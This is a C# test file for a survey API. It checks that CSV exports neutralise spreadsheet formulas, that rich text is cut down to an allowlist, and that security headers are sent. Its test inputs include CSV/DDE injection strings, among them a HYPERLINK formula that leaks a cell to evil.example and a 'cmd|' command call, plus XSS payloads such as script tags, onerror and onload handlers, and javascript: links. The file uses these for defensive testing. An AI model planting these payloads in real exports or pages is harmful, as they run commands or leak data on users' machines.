using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.TestHost;
using Microsoft.Extensions.Hosting;
using Survey.Api.Privacy.Hardening;
using Survey.Api.Questionnaires;
using Survey.Api.Respondents.Answering;
using Survey.Tests.Api.Questionnaires;
using Survey.Tests.Api.Respondents;
using Survey.Tests.Infrastructure;
using Survey.Domain.Questionnaires;
using Sylvan.Data.Csv;
using static Survey.Tests.Domain.Questionnaires.Samples;

namespace Survey.Tests.Api.Privacy;

/// <summary>CSV exports that spreadsheets cannot run, rich text cut down to an allowlist on write, security headers.</summary>
public class HardeningTests(PrivacyApiFixture api) : IClassFixture<PrivacyApiFixture>
{
    private readonly HttpClient _client = api.CreateClient();

    [Fact]
    public async Task The_responses_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas()
    {
        var respondent = new Respondent(_client);
        var questionnaireId = await respondent.PublishedSurvey();
        var link = await respondent.Link(questionnaireId);
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "plain, with \"quotes\"\nand a new line", "ok = fine"];
        var ids = new List<Guid>();
        foreach (var text in hostile)
        {
            var id = Guid.NewGuid();
            ids.Add(id);
            (await respondent.Start(id, new SourceView("link", LinkId: link))).StatusCode.ShouldBe(HttpStatusCode.Created);
            (await respondent.Complete(id, 1, new Dictionary<string, object> { ["nps"] = 10, ["comment"] = text })).StatusCode.ShouldBe(HttpStatusCode.OK);
        }

        var answer = await _client.GetAsync($"/api/questionnaires/{questionnaireId}/responses.csv");
        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        answer.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        using var reader = new StringReader(await answer.Content.ReadAsStringAsync());
        await using var csv = await CsvDataReader.CreateAsync(reader);
        var comment = csv.GetOrdinal("comment");
        var rows = new Dictionary<string, string>();
        while (await csv.ReadAsync()) rows[csv.GetString(csv.GetOrdinal("responseId"))] = csv.GetString(comment);
        rows.Count.ShouldBe(hostile.Length);
        for (var i = 0; i < hostile.Length; i++)
        {
            var cell = rows[ids[i].ToString()];
            if (hostile[i][0] is '=' or '+' or '-' or '@' or '\t' or '\r') cell.ShouldBe("'" + hostile[i]); // shown as text, never run
            else cell.ShouldBe(hostile[i]); // everything else exactly as answered
        }
        (await _client.GetAsync($"/api/questionnaires/{Guid.NewGuid()}/responses.csv")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Rich_text_keeps_the_allowlisted_markup_and_loses_everything_else()
    {
        var title = "<b>Bold</b> <i>i</i> <em>em</em> <strong>s</strong> <a href=\"https://example.com/x\" onclick=\"x()\">ok</a> <a href=\"javascript:alert(1)\">bad</a>" +
            "<br><p>para</p><ul><li>one</li></ul><ol><li>two</li></ol><script>alert(1)</script><img src=x onerror=alert(1)><span style=\"color:red\">span</span>";
        var question = new Question("q", QuestionType.SingleChoice, Text("Pick <a href=\"mailto:help@example.com\">one</a><svg onload=alert(1)>", "选"),
            Choices: [new("a", Text("<u>A</u><iframe src=\"https://evil.example\"></iframe>", "甲")), new("b", Text("B & C < D", "乙"))]);
        var created = await (await _client.Send(HttpMethod.Post, "/api/questionnaires",
            new Survey.Api.Questionnaires.Authoring.CreateQuestionnaireRequest(Text(title, "标题"), "en", ["en", "zh-CN"], Questions: [question]))).Read<QuestionnaireView>(HttpStatusCode.Created);
        created.Draft.Title["en"].ShouldBe("<b>Bold</b> <i>i</i> <em>em</em> <strong>s</strong> <a href=\"https://example.com/x\">ok</a> <a>bad</a><br><p>para</p><ul><li>one</li></ul><ol><li>two</li></ol>span");
        created.Draft.Questions[0].Text["en"].ShouldBe("Pick <a href=\"mailto:help@example.com\">one</a>");
        created.Draft.Questions[0].Choices![0].Text["en"].ShouldBe("A");
        created.Draft.Questions[0].Choices![1].Text["en"].ShouldBe("B &amp; C &lt; D"); // text with '<' is HTML from then on
        created.Draft.Title["zh-CN"].ShouldBe("标题");

        // every way in is cleaned: editing a question and translating too
        var edited = await (await _client.Send(HttpMethod.Put, $"/api/questionnaires/{created.Id}/questions/q",
            question with { Text = Text("<details open ontoggle=alert(1)>Edited</details>", "选") })).Read<QuestionnaireView>();
        edited.Draft.Questions[0].Text["en"].ShouldBe("Edited");
    }

    [Fact]
    public async Task The_console_and_hosted_pages_send_security_headers_and_hsts_only_over_https()
    {
        var console = await _client.GetAsync("/");
        console.StatusCode.ShouldBe(HttpStatusCode.OK);
        var csp = console.Headers.GetValues("Content-Security-Policy").Single();
        csp.ShouldContain("script-src 'self'");
        csp.ShouldContain("frame-ancestors 'none'");
        csp.ShouldNotContain("unsafe-inline");
        console.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
        console.Headers.GetValues("Referrer-Policy").Single().ShouldBe("strict-origin-when-cross-origin");
        console.Headers.Contains("Strict-Transport-Security").ShouldBeFalse(); // plain HTTP: HSTS would mean nothing

        var respondent = new Respondent(_client);
        var link = await respondent.Link(await respondent.PublishedSurvey());
        var hosted = await _client.GetAsync($"/s/p/{link}");
        hosted.Headers.GetValues("Content-Security-Policy").Single().ShouldBe(Survey.Api.Respondents.HostedPage.HostedPageEndpoints.Csp); // its own, stricter one stays
        hosted.Headers.GetValues("Referrer-Policy").Single().ShouldBe("no-referrer");
        hosted.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");

        (await _client.GetAsync("/api/questionnaires")).Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");

    }

    [Fact]
    public async Task Hsts_is_sent_only_on_https_requests()
    {
        using var host = await new HostBuilder()
            .ConfigureWebHost(web => web.UseTestServer().Configure(app =>
            {
                app.UseSecurityHeaders();
                app.Run(http => http.Response.WriteAsync("ok"));
            }))
            .StartAsync();
        var client = host.GetTestClient();
        client.BaseAddress = new Uri("https://localhost/");
        (await client.GetAsync("/")).Headers.GetValues("Strict-Transport-Security").Single().ShouldBe("max-age=31536000; includeSubDomains");
        (await host.GetTestClient().GetAsync("http://localhost/")).Headers.Contains("Strict-Transport-Security").ShouldBeFalse();
    }
}
